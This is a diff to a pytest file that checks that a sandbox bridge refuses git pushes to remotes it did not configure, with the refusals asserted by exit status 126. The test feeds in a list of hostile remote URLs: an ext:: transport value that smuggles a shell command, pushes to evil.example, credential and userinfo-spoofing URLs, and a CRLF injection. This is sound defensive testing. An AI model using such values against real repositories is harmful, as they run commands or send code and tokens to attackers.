@@ -232,23 +232,26 @@ def test_the_control_of_that(place: World) -> None:
     assert pwned.exists()
 
 
-@pytest.mark.parametrize(
-    "url",
-    [
-        "ext::sh -c touch% PWNED", "file:///root/r.git", "/root/r.git", "../r.git", "ssh://git@evil.example/r",
-        "http://evil.example/r.git", "https://evil.example/r.git", "git://127.0.0.1/r", "fd::3",
-        "https://user:pass@github.com/o/r.git",
-    ],
+MADE_UP = (
+    "ext::sh -c touch% PWNED", "file:///root/r.git", "/root/r.git", "../r.git", "ssh://git@evil.example/r",
+    "http://evil.example/r.git", "https://evil.example/r.git", "git://127.0.0.1/r", "fd::3",
+    "https://user:pass@github.com/o/r.git", "https://github.com@evil.example/r", "https://evil.example\\@x/r",
+    "http://127.0.0.1.evil.example/r.git", "http://[::1]/r.git", "HTTP://evil.example/r.git", "ftp://evil.example/r",
+    "https://evil.example/%0d%0aHost:x/r", "https:///etc", "foo::https://evil.example/r", "bundle.pack",
 )  # fmt: skip
-def test_a_remote_that_the_sandbox_made_up(place: World, bridge: Bridge, server: GitServer, url: str) -> None:
+
+
+def test_a_remote_that_the_sandbox_made_up(place: World, bridge: Bridge, server: GitServer) -> None:
     """Neither by its address, nor under a name, nor under the name of one that is known."""
-    place.git("remote", "add", "evil", url)
-    for remote in (url, "evil"):
-        result = place.call(bridge, "git", "push", remote, "main")
-        assert result.status == 126, result.stderr
-        assert "remote" in result.stderr
-    place.git("config", "remote.origin.url", url)
-    place.git("config", "remote.origin.pushurl", url)
+    place.git("remote", "add", "evil", "https://evil.example/r.git")
+    for url in MADE_UP:
+        place.git("config", "remote.evil.url", url)
+        place.git("config", "remote.origin.url", url)
+        place.git("config", "remote.origin.pushurl", url)
+        for remote in (url, "evil"):
+            result = place.call(bridge, "git", "push", remote, "main")
+            assert (result.status, "remote" in result.stderr) == (126, True), (url, result.stderr)
+    assert server.seen == []
     assert place.call(bridge, "git", "push", "origin", "main").status == 0, "origin is what it was"
     assert set(server.seen) == {None, TOKEN}
 
